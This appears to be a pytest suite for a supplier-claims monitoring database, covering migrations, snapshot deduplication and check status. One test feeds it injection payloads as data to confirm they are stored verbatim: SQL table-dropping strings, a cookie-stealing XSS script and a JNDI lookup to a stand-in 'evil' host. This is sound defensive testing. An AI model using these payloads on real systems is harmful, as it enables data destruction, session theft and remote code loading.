"""Storage against real databases (SQLite file and, when configured, PostgreSQL): no mocks."""

from __future__ import annotations

import copy
import random
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from alembic import command
from alembic.autogenerate import compare_metadata
from alembic.runtime.migration import MigrationContext
from alembic.script import ScriptDirectory
from sqlalchemy import event, func, inspect, select

import storage
from storage import (
    Database,
    SupplierSpec,
    UnknownSupplierError,
    check_evidence_html,
    consecutive_failures,
    database_size_bytes,
    get_snapshot,
    latest_snapshot,
    list_checks,
    list_snapshots,
    list_suppliers,
    open_database,
    open_findings,
    previous_snapshot,
    record_check,
    snapshot_html,
    snapshot_screenshot,
    status_summary,
    upsert_suppliers,
)
from storage.db import alembic_config, create_engine_for_url, current_revision, migrate, ours
from storage.models import Blob, Check, Snapshot, metadata

T0 = datetime(2025, 11, 1, 8, 0, tzinfo=UTC)
URL_A = "https://haoyue.en.alibaba.com/company_profile.html"

HTML_PAGE = (
    "<!doctype html><html><head><meta charset='utf-8'><title>浙江昊悦纺织有限公司</title></head><body>"
    + "<div class='cert'>ISO 9001:2015 — Certificate No. 12345 — 有效期至 2026</div>\n" * 400
    + "</body></html>"
)
# A page that compresses like a real one (not a single repeated line).
_rng = random.Random(42)
REALISTIC_PAGE = (
    "<html><body>"
    + " ".join(
        f"<span class='c{_rng.randrange(99)}'>{_rng.choice(['ISO', '认证', 'yarn', 'MOQ', 'FOB'])}"
        f"{_rng.randrange(10**6)}</span>"
        for _ in range(3000)
    )
    + "</body></html>"
)
PNG_BYTES = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20


def make_claims(
    *, certs: tuple[str, ...] = ("ISO 9001",), fetched_at: str | None = "2025-11-01T08:00:00Z", url: str = URL_A
) -> dict[str, Any]:
    """A claims document as the scrapers' ClassDocument.to_json_dict() produces it."""
    return {
        "schema": "supplier-claims/1",
        "source": {"url": url, "platform": "alibaba", "page_type": "company_profile", "fetched_at": fetched_at},
        "status": "ok",
        "supplier": {"name": "Zhejiang Haoyue Textile Co., Ltd.", "country": "CN", "main_products": ["yarn"]},
        "badges": [{"name": "Verified", "issuer": "TÜV Rheinland", "detail": None}],
        "certifications": [{"name": c, "kind": "management_system", "source": "structured"} for c in certs],
        "statements": [{"text": "Our factory is ISO 9001 certified.", "location": "about"}],
    }


@pytest.fixture
def db(db_url: str) -> Iterator[Database]:
    database = open_database(db_url)
    upsert_suppliers(
        database,
        [
            ("haoyue", "Haoyue Textile", "alibaba", [URL_A], ["textile"]),
            ("acme", "Acme Parts", "made-in-china", ["https://acme.en.made-in-china.com/"], []),
        ],
        now=T0,
    )
    try:
        yield database
    finally:
        database.dispose()


def ok_check(
    db: Database,
    at: datetime,
    claims: dict[str, Any] | None = None,
    *,
    supplier_id: str = "haoyue",
    url: str = URL_A,
    html: str | None = HTML_PAGE,
    screenshot: bytes | None = None,
) -> storage.CheckResult:
    return record_check(
        db,
        supplier_id=supplier_id,
        url=url,
        started_at=at,
        finished_at=at + timedelta(seconds=3),
        status="ok",
        fetch_method="browser",
        http_status=200,
        claims=claims if claims is not None else make_claims(),
        html=html,
        screenshot=screenshot,
    )


def failed_check(
    db: Database, at: datetime, status: str = "blocked", *, supplier_id: str = "haoyue", html: str | None = None
) -> storage.CheckResult:
    return record_check(
        db,
        supplier_id=supplier_id,
        url=URL_A,
        started_at=at,
        finished_at=at + timedelta(seconds=1),
        status=status,
        fetch_method="http",
        error=f"{status} by the platform",
        http_status=403 if status == "blocked" else None,
        claims=make_claims(),  # even if a parser produced claims, a non-ok check must not keep them
        html=html,
    )


def count(db: Database, model: type) -> int:
    with db.session() as session:
        return int(session.execute(select(func.count()).select_from(model)).scalar_one())


# --- migrations ------------------------------------------------------------------------------------


def test_migrations_apply_on_empty_database_and_are_idempotent(db_url: str) -> None:
    head = ScriptDirectory.from_config(alembic_config(db_url)).get_current_head()
    first = open_database(db_url)
    try:
        assert head is not None and current_revision(first.engine) == head
        assert set(inspect(first.engine).get_table_names()) >= set(metadata.tables)
        upsert_suppliers(first, [("haoyue", "Haoyue", "alibaba", [URL_A], [])], now=T0)
        migrate(first.engine)  # again on the same engine: a no-op
    finally:
        first.dispose()
    second = open_database(db_url)  # and on reopen: data survives
    try:
        assert current_revision(second.engine) == head
        assert [s.id for s in list_suppliers(second)] == ["haoyue"]
    finally:
        second.dispose()


def test_downgrade_to_base_and_upgrade_again(db_url: str) -> None:
    engine = create_engine_for_url(db_url)
    try:
        migrate(engine)
        with engine.begin() as conn:
            command.downgrade(alembic_config(db_url, connection=conn), "base")
        assert not set(metadata.tables) & set(inspect(engine).get_table_names())
        migrate(engine)
        head = ScriptDirectory.from_config(alembic_config(db_url)).get_current_head()
        assert current_revision(engine) == head
    finally:
        engine.dispose()


def test_concurrent_opens_migrate_once(db_url: str) -> None:
    """Scheduler and web UI starting together must not both try to create the tables."""
    errors: list[BaseException] = []
    opened: list[Database] = []

    def worker() -> None:
        try:
            opened.append(open_database(db_url))
        except BaseException as exc:  # collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for d in opened:
        d.dispose()
    assert errors == []
    assert len(opened) == 4


def test_migration_matches_models(db: Database) -> None:
    opts = {"compare_type": True, "include_name": ours}
    with db.engine.connect() as conn:
        diffs = compare_metadata(MigrationContext.configure(conn, opts=opts), metadata)
    assert diffs == []


def test_schema_comparison_detects_differences(db_url: str) -> None:
    """Control for the test above: an unmigrated database must show differences."""
    engine = create_engine_for_url(db_url)
    try:
        with engine.connect() as conn:
            diffs = compare_metadata(MigrationContext.configure(conn), metadata)
        assert {d[1].name for d in diffs if d[0] == "add_table"} == set(metadata.tables)
    finally:
        engine.dispose()


# --- dedup -----------------------------------------------------------------------------------------


def test_first_ok_check_creates_snapshot_and_blobs(db: Database) -> None:
    result = ok_check(db, T0, screenshot=PNG_BYTES)
    assert result.changed is True
    assert result.snapshot_id is not None
    assert result.previous_snapshot_id is None
    snap = get_snapshot(db, result.snapshot_id)
    assert snap is not None
    assert snap.claims == make_claims()
    assert snap.claims_hash == storage.claims_hash(make_claims())
    assert snap.first_seen_at == snap.last_seen_at == T0
    assert snapshot_html(db, snap.id) == HTML_PAGE
    assert snapshot_screenshot(db, snap.id) == PNG_BYTES
    assert count(db, Blob) == 2
    with db.session() as session:
        html_blob = session.get(Blob, snap.html_blob)
        assert html_blob is not None
        assert html_blob.kind == "html"
        assert html_blob.size == len(HTML_PAGE.encode())
        assert len(html_blob.compressed) < html_blob.size / 5


def test_unchanged_recheck_adds_only_a_check_row(db: Database) -> None:
    first = ok_check(db, T0, screenshot=PNG_BYTES)
    for i in range(1, 21):
        at = T0 + timedelta(hours=i)
        # Different fetched_at and even different HTML (ads, nonces): the claims are what count.
        claims = make_claims(fetched_at=at.isoformat())
        result = ok_check(db, at, claims, html=HTML_PAGE + f"<!-- nonce {i} -->", screenshot=PNG_BYTES + b"x")
        assert result.changed is False
        assert result.snapshot_id == first.snapshot_id
        assert result.previous_snapshot_id == first.snapshot_id
    assert count(db, Snapshot) == 1
    assert count(db, Blob) == 2
    assert count(db, Check) == 21
    snap = latest_snapshot(db, "haoyue", URL_A)
    assert snap is not None
    assert snap.first_seen_at == T0
    assert snap.last_seen_at == T0 + timedelta(hours=20)
    checks = list_checks(db, "haoyue", limit=None)
    assert all(c.snapshot_id == first.snapshot_id for c in checks)
    assert [c.changed for c in checks] == [False] * 20 + [True]


def _finding(identity: str) -> dict[str, Any]:
    return {
        "identity": identity,
        "code": identity.split(":")[0],
        "severity": "high",
        "message": f"{identity} is not verifiable",
        "evidence": "ISO 9001",
        "rule_source": "test",
    }


def test_unchanged_recheck_writes_one_row_and_findings_stay_seen(db: Database) -> None:
    """The only write of an unchanged check that raises the same findings is its check row; the snapshot's and
    the findings' last sightings are derived from it, and a finding that goes keeps its true last sighting."""
    findings = [_finding("CV-01:a"), _finding("AC-01:b")]
    first = record_check(db, **check_args(T0), findings=findings)
    writes: list[str] = []

    def note(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().split()[0].upper() in ("INSERT", "UPDATE", "DELETE"):
            writes.append(" ".join(statement.split()[:3]))

    event.listen(db.engine, "before_cursor_execute", note)
    try:
        for hours in (1, 2, 3):
            again = record_check(db, **check_args(T0 + timedelta(hours=hours)), findings=findings)
            assert (again.changed, again.snapshot_id) == (False, first.snapshot_id)
    finally:
        event.remove(db.engine, "before_cursor_execute", note)
    assert writes == ['INSERT INTO "check"'] * 3
    snap = latest_snapshot(db, "haoyue", URL_A)
    assert snap is not None and (snap.first_seen_at, snap.last_seen_at) == (T0, T0 + timedelta(hours=3))
    assert {f.identity: f.last_seen_at for f in open_findings(db, "haoyue")} == {
        "CV-01:a": T0 + timedelta(hours=3),
        "AC-01:b": T0 + timedelta(hours=3),
    }

    # AC-01:b is no longer produced by a check of the same snapshot: its last sighting is the check before.
    record_check(db, **check_args(T0 + timedelta(hours=4)), findings=findings[:1])
    rows = {f.identity: f for f in storage.finding_history(db, "haoyue")}
    assert (rows["AC-01:b"].last_seen_at, rows["AC-01:b"].resolved_at) == (
        T0 + timedelta(hours=3),
        T0 + timedelta(hours=4),
    )
    assert rows["CV-01:a"].last_seen_at == T0 + timedelta(hours=4)
    # A later check of the same snapshot is no sighting of the resolved finding.
    record_check(db, **check_args(T0 + timedelta(hours=5)), findings=findings[:1])
    resolved = {f.identity: f for f in storage.finding_history(db, "haoyue")}["AC-01:b"]
    assert resolved.last_seen_at == T0 + timedelta(hours=3)


def check_args(at: datetime) -> dict[str, Any]:
    """An ok check of URL_A at ``at`` with the default claims."""
    return {
        "supplier_id": "haoyue",
        "url": URL_A,
        "started_at": at,
        "finished_at": at + timedelta(seconds=2),
        "status": "ok",
        "fetch_method": "http",
        "claims": make_claims(),
        "html": HTML_PAGE,
    }


def test_unchanged_recheck_bytes_on_disk(db: Database) -> None:
    """An unchanged re-check costs a check row (plus index entries), never another copy of the page."""
    ok_check(db, T0, html=REALISTIC_PAGE, screenshot=PNG_BYTES)
    with db.session() as session:
        compressed_page = session.execute(select(func.sum(func.length(Blob.compressed)))).scalar_one()
    n = 300
    before = database_size_bytes(db)
    for i in range(1, n + 1):
        at = T0 + timedelta(minutes=10 * i)
        ok_check(db, at, make_claims(fetched_at=at.isoformat()), html=REALISTIC_PAGE, screenshot=PNG_BYTES)
    growth = database_size_bytes(db) - before
    per_check = growth / n
    print(f"[{db.dialect}] growth per unchanged check: {per_check:.0f} bytes (page blobs {compressed_page} B)")
    assert count(db, Snapshot) == 1
    assert count(db, Blob) == 2
    if db.dialect == "sqlite":
        assert per_check < 600
    else:  # PostgreSQL: 8 KiB pages plus MVCC versions of the bumped snapshot row until vacuum
        assert per_check < 2000
    assert per_check < compressed_page / 20


def test_changed_claims_create_new_snapshot(db: Database) -> None:
    first = ok_check(db, T0)
    second = ok_check(db, T0 + timedelta(days=1), make_claims(certs=("ISO 9001", "CE")))
    assert second.changed is True
    assert second.snapshot_id != first.snapshot_id
    assert second.previous_snapshot_id == first.snapshot_id
    assert count(db, Snapshot) == 2
    latest = latest_snapshot(db, "haoyue")
    assert latest is not None
    assert latest.id == second.snapshot_id
    prev = previous_snapshot(db, second.snapshot_id)
    assert prev is not None
    assert prev.id == first.snapshot_id
    assert previous_snapshot(db, first.snapshot_id) is None
    # Same HTML behind both snapshots: stored once.
    assert count(db, Blob) == 1

    # Flipping back is a change too (evidence that the claim was withdrawn and re-added).
    third = ok_check(db, T0 + timedelta(days=2), make_claims())
    assert third.changed is True
    assert third.previous_snapshot_id == second.snapshot_id
    assert [s.id for s in list_snapshots(db, "haoyue")] == [
        third.snapshot_id,
        second.snapshot_id,
        first.snapshot_id,
    ]


def test_fetched_at_and_key_order_are_not_changes(db: Database) -> None:
    first = ok_check(db, T0, make_claims(fetched_at="2025-11-01T08:00:00Z"))
    reordered = {k: v for k, v in reversed(list(make_claims(fetched_at=None).items()))}
    for claims in (make_claims(fetched_at="2025-12-24T23:59:59+08:00"), make_claims(fetched_at=None), reordered):
        assert ok_check(db, T0 + timedelta(hours=1), claims).changed is False
    without_key = make_claims()
    del without_key["source"]["fetched_at"]
    assert ok_check(db, T0 + timedelta(hours=2), without_key).snapshot_id == first.snapshot_id
    assert count(db, Snapshot) == 1


def test_snapshots_are_per_url(db: Database) -> None:
    other_url = "https://haoyue.en.alibaba.com/certificates.html"
    a = ok_check(db, T0)
    b = ok_check(db, T0 + timedelta(minutes=1), url=other_url)
    assert b.changed is True
    assert b.previous_snapshot_id is None
    assert ok_check(db, T0 + timedelta(minutes=2)).snapshot_id == a.snapshot_id
    latest_a = latest_snapshot(db, "haoyue", URL_A)
    latest_any = latest_snapshot(db, "haoyue")
    assert latest_a is not None
    assert latest_any is not None
    assert latest_a.id == a.snapshot_id
    assert latest_any.id == b.snapshot_id


@pytest.mark.parametrize("status", ["blocked", "login_required", "not_found", "unparseable", "error"])
def test_non_ok_statuses_never_create_snapshots(db: Database, status: str) -> None:
    block_page = f"<html><body>Please slide to verify ({status}) 滑动验证</body></html>"
    result = failed_check(db, T0, status, html=block_page)
    assert result.snapshot_id is None
    assert result.changed is False
    assert count(db, Snapshot) == 0
    assert check_evidence_html(db, result.check_id) == block_page
    # The same block page again is not stored twice; opting out keeps no evidence at all.
    failed_check(db, T0 + timedelta(minutes=5), status, html=block_page)
    assert count(db, Blob) == 1
    quiet = record_check(
        db,
        supplier_id="haoyue",
        url=URL_A,
        started_at=T0 + timedelta(minutes=10),
        finished_at=T0 + timedelta(minutes=10),
        status=status,
        fetch_method="http",
        html="<html>other</html>",
        keep_failure_html=False,
    )
    assert check_evidence_html(db, quiet.check_id) is None
    assert count(db, Blob) == 1
    assert count(db, Snapshot) == 0
    (latest,) = list_checks(db, "haoyue", limit=1)
    assert latest.status == status
    assert latest.snapshot_id is None


def test_failure_between_ok_checks_keeps_snapshot_chain(db: Database) -> None:
    first = ok_check(db, T0)
    failed = failed_check(db, T0 + timedelta(hours=1))
    assert failed.previous_snapshot_id == first.snapshot_id
    again = ok_check(db, T0 + timedelta(hours=2))
    assert again.changed is False
    assert again.snapshot_id == first.snapshot_id


def test_blob_dedup_across_suppliers(db: Database) -> None:
    a = ok_check(db, T0, screenshot=PNG_BYTES)
    b = ok_check(
        db,
        T0,
        make_claims(url="https://acme.en.made-in-china.com/"),
        supplier_id="acme",
        url="https://acme.en.made-in-china.com/",
        screenshot=PNG_BYTES,
    )
    sa, sb = get_snapshot(db, a.snapshot_id), get_snapshot(db, b.snapshot_id)
    assert sa is not None
    assert sb is not None
    assert sa.id != sb.id
    assert sa.html_blob == sb.html_blob
    assert sa.screenshot_blob == sb.screenshot_blob
    assert count(db, Blob) == 2


def test_record_check_is_one_transaction(db: Database) -> None:
    """A failure half-way (bad screenshot after the HTML blob was written) leaves nothing behind."""
    with pytest.raises(TypeError):
        ok_check(db, T0, screenshot="not bytes")  # type: ignore[arg-type]
    assert count(db, Blob) == 0
    assert count(db, Snapshot) == 0
    assert count(db, Check) == 0


def test_record_check_validates_input(db: Database) -> None:
    with pytest.raises(UnknownSupplierError):
        ok_check(db, T0, supplier_id="nobody")
    with pytest.raises(ValueError, match="status"):
        failed_check(db, T0, "exploded")
    with pytest.raises(ValueError, match="timezone-aware"):
        ok_check(db, datetime(2025, 11, 1, 8, 0))
    with pytest.raises(TypeError, match="JSON"):
        ok_check(db, T0, {"schema": "supplier-claims/1", "when": datetime.now(UTC)})
    assert count(db, Check) == 0


def test_record_checks_writes_a_batch_in_one_commit_and_refuses_records_one_by_one(db: Database) -> None:
    """A group commit: the records that can be stored are, each as record_check would store it; a refused one
    (unknown supplier, moved snapshot, bad field, failing alerts callback) writes nothing and costs only itself.
    Results come back in the order given, whatever order the records were written in."""
    acme_url = "https://acme.en.made-in-china.com/"
    first = ok_check(db, T0)

    def exploding(facts: storage.CheckFacts) -> list[dict[str, Any]]:
        raise RuntimeError(f"alert rule failed for check {facts.check_id}")

    at = T0 + timedelta(hours=1)
    records = [
        storage.CheckRecord(**check_args(at), expected_claims_hash=first_hash(db)),  # unchanged: a row only
        storage.CheckRecord(**{**check_args(at), "supplier_id": "nobody"}),
        storage.CheckRecord(**{**check_args(at), "supplier_id": "acme", "url": acme_url}),  # acme's first snapshot
        storage.CheckRecord(**check_args(at), expected_claims_hash="0" * 64),
        storage.CheckRecord(**{**check_args(at), "status": "exploded"}),
        storage.CheckRecord(**{**check_args(at), "supplier_id": "acme", "url": acme_url + "x"}, alerts=exploding),
    ]
    commits: list[int] = []

    def note_commit(conn: Any) -> None:
        commits.append(1)

    event.listen(db.engine, "commit", note_commit)
    try:
        results = storage.record_checks(db, records)
    finally:
        event.remove(db.engine, "commit", note_commit)
    unchanged, unknown, acme, moved, bad, failed_callback = results
    assert isinstance(unchanged, storage.CheckResult) and unchanged.changed is False
    assert unchanged.snapshot_id == first.snapshot_id
    assert isinstance(unknown, UnknownSupplierError)
    assert isinstance(acme, storage.CheckResult) and acme.changed is True and acme.previous_snapshot_id is None
    assert isinstance(moved, storage.SnapshotMovedError)
    assert isinstance(bad, ValueError) and "exploded" in str(bad)
    assert isinstance(failed_callback, RuntimeError) and "alert rule failed" in str(failed_callback)
    assert len(commits) == 1
    # Only the two stored records wrote rows: the callback's check and its snapshot were rolled back.
    assert count(db, Check) == 3 and count(db, Snapshot) == 2
    assert [c.id for c in list_checks(db, "acme", limit=None)] == [acme.check_id]
    snap = latest_snapshot(db, "haoyue", URL_A)
    assert snap is not None and snap.last_seen_at == at


def test_record_checks_of_nothing_or_one(db: Database) -> None:
    """A batch of one has no savepoint: its refusal rolls back the whole (its own) transaction, and is returned."""
    assert storage.record_checks(db, []) == []
    [unknown] = storage.record_checks(db, [storage.CheckRecord(**{**check_args(T0), "supplier_id": "nobody"})])
    assert isinstance(unknown, UnknownSupplierError)
    assert count(db, Check) == 0 and count(db, Snapshot) == 0
    [stored] = storage.record_checks(db, [storage.CheckRecord(**check_args(T0))])
    assert isinstance(stored, storage.CheckResult) and stored.changed is True
    assert count(db, Check) == 1


def first_hash(db: Database) -> str:
    snap = latest_snapshot(db, "haoyue", URL_A)
    assert snap is not None
    return snap.claims_hash


# --- status ----------------------------------------------------------------------------------------


def test_consecutive_failures_and_status_summary(db: Database) -> None:
    assert consecutive_failures(db, "haoyue") == 0
    ok_check(db, T0)
    failed_check(db, T0 + timedelta(hours=1), "blocked")
    failed_check(db, T0 + timedelta(hours=2), "error")
    assert consecutive_failures(db, "haoyue") == 2
    for i in range(3):
        failed_check(db, T0 + timedelta(hours=i), "login_required", supplier_id="acme")
    assert consecutive_failures(db, "acme") == 3  # never succeeded: every check counts

    statements: list[str] = []

    def on_execute(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT"):
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", on_execute)
    try:
        summary = {s.supplier_id: s for s in status_summary(db)}
    finally:
        event.remove(db.engine, "before_cursor_execute", on_execute)
    assert len(statements) == 1

    haoyue = summary["haoyue"]
    assert haoyue.checks == 3
    assert haoyue.last_status == "error"
    assert haoyue.last_check_at == T0 + timedelta(hours=2)
    assert haoyue.last_ok_at == T0
    assert haoyue.consecutive_failures == 2
    assert summary["acme"].consecutive_failures == 3
    assert summary["acme"].last_ok_at is None
    assert summary["acme"].last_status == "login_required"

    ok_check(db, T0 + timedelta(hours=3))
    assert consecutive_failures(db, "haoyue") == 0
    assert {s.supplier_id: s for s in status_summary(db)}["haoyue"].consecutive_failures == 0


def test_status_summary_includes_suppliers_without_checks(db: Database) -> None:
    summary = status_summary(db)
    assert [s.supplier_id for s in summary] == ["acme", "haoyue"]
    assert all(s.checks == 0 and s.last_check_at is None and s.consecutive_failures == 0 for s in summary)


def test_list_checks_newest_first_with_limit(db: Database) -> None:
    for i in range(5):
        failed_check(db, T0 + timedelta(minutes=i))
    checks = list_checks(db, "haoyue", limit=3)
    assert [c.started_at for c in checks] == [T0 + timedelta(minutes=m) for m in (4, 3, 2)]
    assert checks[0].duration_ms == 1000
    assert checks[0].fetch_method == "http"
    assert checks[0].http_status == 403


# --- suppliers -------------------------------------------------------------------------------------


def test_supplier_upsert_deactivate_keeps_history(db: Database) -> None:
    ok_check(db, T0, supplier_id="acme", url="https://acme.en.made-in-china.com/")
    later = T0 + timedelta(days=1)
    result = upsert_suppliers(
        db,
        [SupplierSpec("haoyue", "Haoyue Textile Co.", "alibaba", [URL_A], ["textile", "vip"])],
        now=later,
    )
    assert result.deactivated == ["acme"]
    assert result.updated == ["haoyue"]
    assert result.added == []
    suppliers = {s.id: s for s in list_suppliers(db)}
    assert suppliers["acme"].active is False
    assert suppliers["acme"].updated_at == later
    assert suppliers["haoyue"].name == "Haoyue Textile Co."
    assert suppliers["haoyue"].tags == ["textile", "vip"]
    assert suppliers["haoyue"].created_at == T0
    assert [s.id for s in list_suppliers(db, active_only=True)] == ["haoyue"]
    # History of the removed supplier is intact.
    assert len(list_checks(db, "acme")) == 1
    assert latest_snapshot(db, "acme") is not None

    back = upsert_suppliers(
        db,
        [
            SupplierSpec("haoyue", "Haoyue Textile Co.", "alibaba", [URL_A], ["textile", "vip"]),
            ("acme", "Acme Parts", "made-in-china", ["https://acme.en.made-in-china.com/"], []),
            ("new", "New Co", "alibaba", [], []),
        ],
        now=later,
    )
    assert back.reactivated == ["acme"]
    assert back.added == ["new"]
    assert back.updated == []
    assert all(s.active for s in list_suppliers(db))


# --- content fidelity ------------------------------------------------------------------------------


def test_html_round_trip_non_ascii(db: Database) -> None:
    html = (
        "<html lang='zh'><body>\r\n浙江昊悦 — ISO 9001 认证 ✓ 😀 Ünïcødé \u202eRTL\u202c"
        " \u00a0nbsp\ttab\n\x00nul \ud800lone-surrogate</body></html>"
    )
    result = ok_check(db, T0, html=html)
    assert snapshot_html(db, result.snapshot_id) == html


def test_hostile_text_is_stored_verbatim(db: Database) -> None:
    hostile = [
        '\'; DROP TABLE "check"; --',
        "<script>alert(document.cookie)</script>",
        "Robert'); DELETE FROM snapshot WHERE ('1'='1",
        "\x00\x01\x1b[31mANSI\x7f",
        'quote " backslash \\ unicode \\u0000 escape',
        "{{ 7*7 }} ${jndi:ldap://evil/x} %s %(x)s",
        "ISO 9001\u200b\ufeff认证 " + "A" * 5000,
    ]
    claims = make_claims()
    claims["statements"] = [{"text": t, "location": t} for t in hostile]
    claims["supplier"]["name"] = hostile[0]
    claims["extra"] = {t: t for t in hostile}
    original = copy.deepcopy(claims)
    result = ok_check(db, T0, claims, html="".join(hostile))
    snap = get_snapshot(db, result.snapshot_id)
    assert snap is not None
    assert snap.claims == original
    assert snapshot_html(db, snap.id) == "".join(hostile)
    # Identical hostile claims are recognised as unchanged.
    assert ok_check(db, T0 + timedelta(hours=1), copy.deepcopy(original)).changed is False
    upsert_suppliers(db, [(hostile[0], hostile[1], hostile[5], [hostile[2]], [hostile[6]])], now=T0)
    (s,) = [s for s in list_suppliers(db) if s.id == hostile[0]]
    assert (s.name, s.platform, s.urls, s.tags) == (hostile[1], hostile[5], [hostile[2]], [hostile[6]])
    failed = record_check(
        db,
        supplier_id="haoyue",
        url=URL_A,
        started_at=T0,
        finished_at=T0,
        status="error",
        fetch_method="http",
        error=hostile[0] + hostile[3],
    )
    (c,) = [c for c in list_checks(db, "haoyue") if c.id == failed.check_id]
    assert c.error is not None
    assert c.error.startswith(hostile[0])


def test_timestamps_are_aware_utc(db: Database) -> None:
    shanghai = timezone(timedelta(hours=8))
    local = datetime(2025, 11, 1, 16, 0, 0, 123456, tzinfo=shanghai)
    result = ok_check(db, local)
    snap = get_snapshot(db, result.snapshot_id)
    assert snap is not None
    assert snap.first_seen_at == local
    assert snap.first_seen_at.utcoffset() == timedelta(0)
    assert snap.first_seen_at == datetime(2025, 11, 1, 8, 0, 0, 123456, tzinfo=UTC)
    (check,) = list_checks(db, "haoyue")
    assert check.started_at.tzinfo is not None
    assert check.finished_at - check.started_at == timedelta(seconds=3)
    assert check.duration_ms == 3000


def test_database_size_bytes(db: Database) -> None:
    empty = database_size_bytes(db)
    assert empty > 0
    for i in range(5):
        ok_check(db, T0 + timedelta(days=i), make_claims(certs=(f"cert {i}",)), html=REALISTIC_PAGE + str(i))
    assert database_size_bytes(db) > empty


# --- skipped checks (not fetched: the host was being left alone) -----------------------------------


def skipped_check(db: Database, at: datetime, *, supplier_id: str = "haoyue", **kwargs: Any) -> storage.CheckResult:
    url = URL_A if supplier_id == "haoyue" else "https://acme.en.made-in-china.com/"
    reason = "backing_off: not fetched: https://haoyue.en.alibaba.com:443 is left alone until 2025-11-01T09:30:00+00:00"
    return record_check(
        db,
        supplier_id=supplier_id,
        url=url,
        started_at=at,
        finished_at=at,
        status="skipped",
        fetch_method="browser",
        error=reason,
        **kwargs,
    )


def test_skipped_checks_neither_count_as_failures_nor_end_a_streak(db: Database) -> None:
    """A page not fetched because its host backs off says nothing about the supplier, either way."""
    seen: list[storage.CheckFacts] = []

    def facts(f: storage.CheckFacts) -> list[dict[str, Any]]:
        seen.append(f)
        return []

    ok_check(db, T0)
    blocked = failed_check(db, T0 + timedelta(hours=1), "blocked")
    skipped_check(db, T0 + timedelta(hours=2), alerts=facts)
    assert consecutive_failures(db, "haoyue") == 1, "a skip is no failure, and it does not reset the streak"
    assert (seen[-1].status, seen[-1].consecutive_failures, seen[-1].previous_status) == ("skipped", 1, "blocked")
    failed_check(db, T0 + timedelta(hours=3), "error")
    assert consecutive_failures(db, "haoyue") == 2

    summary = {s.supplier_id: s for s in status_summary(db)}["haoyue"]
    assert (summary.checks, summary.last_status, summary.last_check_at) == (3, "error", T0 + timedelta(hours=3))
    assert summary.consecutive_failures == 2
    assert summary.skipped_at is None, "a skip older than the last attempt explains nothing now"

    # A skip after the last attempt: the real status stays, the skip and its reason are reported beside it.
    result = skipped_check(db, T0 + timedelta(hours=4), html="<html>captcha of another store</html>", alerts=facts)
    assert result.snapshot_id is None and check_evidence_html(db, result.check_id) is None
    assert (seen[-1].consecutive_failures, seen[-1].previous_status) == (2, "error")
    summary = {s.supplier_id: s for s in status_summary(db)}["haoyue"]
    assert (summary.last_status, summary.consecutive_failures, summary.checks) == ("error", 2, 3)
    assert summary.skipped_at == T0 + timedelta(hours=4)
    assert summary.skip_reason is not None and "left alone until" in summary.skip_reason

    # The ok check that ends the streak recovers from the two real failures, counted from the blocked one.
    record_check(
        db, supplier_id="haoyue", url=URL_A, started_at=T0 + timedelta(hours=5),
        finished_at=T0 + timedelta(hours=5), status="ok", fetch_method="browser", claims=make_claims(), alerts=facts,
    )  # fmt: skip
    assert (seen[-1].ended_failures, seen[-1].ended_first_failed_check_id) == (2, blocked.check_id)
    assert consecutive_failures(db, "haoyue") == 0
    assert len(list_snapshots(db, "haoyue")) == 1, "skips never store claims"

    # A supplier only ever skipped was never checked and is not failing.
    skipped_check(db, T0, supplier_id="acme")
    acme = {s.supplier_id: s for s in status_summary(db)}["acme"]
    assert (acme.checks, acme.last_status, acme.last_check_at, acme.consecutive_failures) == (0, None, None, 0)
    assert acme.skipped_at == T0


def test_skipped_checks_stay_out_of_the_outcomes_chart(db: Database) -> None:
    from storage.dashboard import check_outcomes_per_day

    ok_check(db, T0)
    failed_check(db, T0 + timedelta(hours=1), "blocked")
    failed_check(db, T0 + timedelta(hours=2), "error")
    skipped_check(db, T0 + timedelta(hours=3))
    skipped_check(db, T0 + timedelta(hours=4))
    (day,) = check_outcomes_per_day(db, now=T0 + timedelta(hours=5)).values()
    assert day == {"ok": 1, "blocked": 1, "failing": 1}
